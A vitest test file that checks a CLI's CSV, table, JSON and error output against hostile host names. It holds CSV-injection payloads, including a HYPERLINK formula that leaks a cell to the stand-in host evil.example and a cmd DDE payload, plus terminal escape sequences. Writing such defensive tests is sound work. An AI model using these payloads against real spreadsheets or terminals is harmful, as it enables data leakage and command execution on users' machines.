import { rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateRuns, type GeneratedRun } from '../src/sample/fleet';
import { runCli } from './helpers/cli';
import { writeStore } from './helpers/store-holder';
import { tempDir } from './helpers/tree';

/** Host names an attacker who can name a computer might choose. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\tTAB-first',
  '\rCR-first',
  'title\u001b]0;pwned\u0007clear\u001b[2J\u001b[H',
  'csi\u009b31mred',
  'del\u007fhost',
  '-5',
  'plain-host',
];

let work: string;
let db: string;
let run: GeneratedRun;
const sql = 'SELECT host_name FROM computer_snapshots ORDER BY computer_id';

beforeAll(async () => {
  work = tempDir('cli-output-safety');
  const first = [...generateRuns({ computers: HOSTILE.length + 4, weeks: 1, seed: 5 })].find((r) => r.object === 'computers')!;
  const records = first.records.slice(0, HOSTILE.length).map((record, i) => ({ ...record, ID: i + 1, hostName: HOSTILE[i] }));
  run = { ...first, records };
  db = await writeStore(work, [run]);
}, 60_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

/** OWASP's advice for CSV injection: a cell that starts like a formula (and is not a number) gets a leading quote. */
function expectedCsvCell(text: string): string {
  const safe = /^[=+\-@\t\r]/.test(text) && !/^[+-]?\d+(\.\d+)?$/.test(text) ? `'${text}` : text;
  return /[",\r\n]/.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

describe('hostile values in CLI output', () => {
  it('query --format csv writes formula-like cells as text, as the report evidence does', async () => {
    const csv = await runCli(['query', sql, '--db', db, '--format', 'csv']);
    expect(csv.status).toBe(0);
    expect(csv.stdout).toBe(['host_name', ...HOSTILE.map(expectedCsvCell)].map((line) => `${line}\r\n`).join(''));
  }, 30_000);

  it('query --format table shows control characters instead of sending them to the terminal', async () => {
    const table = await runCli(['query', sql, '--db', db]);
    expect(table.status).toBe(0);
    expect(table.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(table.stdout).toContain('title␛]0;pwned␇clear␛[2J␛[H');
    expect(table.stdout).toContain('csi\\x9b31mred');
    expect(table.stdout).toContain('del␡host');
    expect(table.stdout).toContain(`${HOSTILE.length} rows`);
  }, 30_000);

  it('query --format json escapes every control character and keeps the values exact', async () => {
    const json = await runCli(['query', sql, '--db', db, '--format', 'json']);
    expect(json.status).toBe(0);
    expect(json.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect((JSON.parse(json.stdout) as { host_name: string }[]).map((row) => row.host_name)).toEqual(HOSTILE);
  }, 30_000);

  it('an error that quotes a hostile host name (a DuckDB conversion error) shows its control characters, on one line', async () => {
    const failed = await runCli(['query', `SELECT CAST(host_name AS INTEGER) FROM computer_snapshots WHERE host_name LIKE 'title%'`, '--db', db]);
    expect(failed.status).toBe(1);
    expect(failed.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(failed.stderr).toContain("'title␛]0;pwned␇clear␛[2J␛[H'");
    expect(failed.stderr.trimEnd().split('\n')).toHaveLength(1);
  }, 30_000);
});
